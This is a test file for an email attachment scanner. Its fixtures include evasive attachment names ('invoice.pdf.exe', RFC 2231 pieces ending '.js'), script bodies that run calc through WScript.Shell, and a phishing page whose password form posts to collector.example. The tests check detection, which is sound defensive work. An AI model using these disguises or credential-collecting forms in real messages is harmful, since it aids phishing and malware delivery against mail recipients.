import { describe, expect, it } from "vitest";
import { BuiltinScanner } from "../../../../server/mail/scan/scanner";
import { scanInput } from "./support/messages";

const PDF = Buffer.from("%PDF-1.7\n1 0 obj <<>> endobj\n%%EOF\n");

/** A multipart message with a text body and the given parts, each its header lines and its body as sent. */
function message(parts: Array<{ headers: string[]; body: string }>): Buffer {
  const lines = [
    "From: Alice Sender <alice@example.org>",
    "To: jane.doe@contoso.com",
    "Subject: Documents",
    "Date: Mon, 02 Jun 2025 10:00:00 +0000",
    "Message-ID: <names-1@example.org>",
    "MIME-Version: 1.0",
    'Content-Type: multipart/mixed; boundary="b1"',
    "",
    "--b1",
    "Content-Type: text/plain; charset=utf-8",
    "",
    "Please see the attached files.",
  ];
  for (const part of parts) lines.push("--b1", ...part.headers, "", part.body);
  lines.push("--b1--", "");
  return Buffer.from(lines.join("\r\n"));
}

async function signalIds(raw: Buffer): Promise<string[]> {
  const assessment = await new BuiltinScanner().assess(await scanInput(raw));
  return assessment.signals.map((s) => s.id).sort();
}

describe("an attachment's names", () => {
  it.each([
    ["the type's name", 'application/pdf; name="invoice.pdf.exe"', 'attachment; filename="invoice.pdf"'],
    [
      "the disposition's filename",
      'application/pdf; name="invoice.pdf"',
      'attachment; filename="invoice.pdf.exe"',
    ],
  ])("checks the program named only by %s", async (_where, type, disposition) => {
    // mailparser keeps the disposition's filename alone: invoice.pdf.exe in the type's name passed as invoice.pdf.
    const raw = message([
      {
        headers: [
          `Content-Type: ${type}`,
          `Content-Disposition: ${disposition}`,
          "Content-Transfer-Encoding: base64",
        ],
        body: PDF.toString("base64"),
      },
    ]);
    const ids = await signalIds(raw);
    expect(ids).toContain("attachment.executable");
    expect(ids).toContain("attachment.double_extension");
  });

  it("checks a name given in RFC 2231 pieces", async () => {
    const raw = message([
      {
        headers: [
          'Content-Type: application/pdf; name*0="statement.pdf"; name*1=".js"',
          'Content-Disposition: attachment; filename="statement.pdf"',
          "Content-Transfer-Encoding: base64",
        ],
        body: PDF.toString("base64"),
      },
    ]);
    expect(await signalIds(raw)).toContain("attachment.script");
  });

  it("flags nothing when both names agree on a harmless file", async () => {
    const raw = message([
      {
        headers: [
          'Content-Type: application/pdf; name="invoice.pdf"',
          'Content-Disposition: attachment; filename="invoice.pdf"',
          "Content-Transfer-Encoding: base64",
        ],
        body: PDF.toString("base64"),
      },
    ]);
    expect((await signalIds(raw)).filter((id) => id.startsWith("attachment."))).toEqual([]);
  });
});

describe("text parts that name a file", () => {
  it.each([
    ["with no disposition", []],
    ["with an inline disposition", ["Content-Disposition: inline"]],
  ])("checks a text/plain part named x.js %s as an attachment", async (_how, disposition) => {
    // mailparser reads such a part as body text and lists no attachment; Outlook shows and saves it as x.js.
    const raw = message([
      {
        headers: ['Content-Type: text/plain; charset=us-ascii; name="payment.js"', ...disposition],
        body: 'new ActiveXObject("WScript.Shell").Run("calc")',
      },
    ]);
    expect(await signalIds(raw)).toContain("attachment.script");
  });

  it("checks an inline text part whose disposition alone names the file", async () => {
    const raw = message([
      {
        headers: ["Content-Type: text/plain", 'Content-Disposition: inline; filename="run.vbs"'],
        body: 'CreateObject("WScript.Shell").Run "calc"',
      },
    ]);
    expect(await signalIds(raw)).toContain("attachment.script");
  });

  it("checks a named text/html part as an attached page", async () => {
    const page =
      '<html><form action="https://collector.example/p"><input type="password" name="p"></form></html>';
    const raw = message([
      {
        headers: ['Content-Type: text/html; name="Secure-Message.html"', "Content-Transfer-Encoding: base64"],
        body: Buffer.from(page).toString("base64"),
      },
    ]);
    expect(await signalIds(raw)).toContain("attachment.html_form");
  });

  it("checks a named text part inside an attached message", async () => {
    const inner = message([
      { headers: ['Content-Type: text/plain; name="payment.js"'], body: "WScript.Echo(1)" },
    ]);
    const raw = message([
      {
        headers: [
          'Content-Type: message/rfc822; name="fwd.eml"',
          'Content-Disposition: attachment; filename="fwd.eml"',
        ],
        body: inner.toString("latin1"),
      },
    ]);
    expect(await signalIds(raw)).toContain("attachment.script");
  });

  it("leaves text parts without a name to the body", async () => {
    const raw = message([{ headers: ["Content-Type: text/plain"], body: "var x = 1; // not a file" }]);
    expect((await signalIds(raw)).filter((id) => id.startsWith("attachment."))).toEqual([]);
  });
});
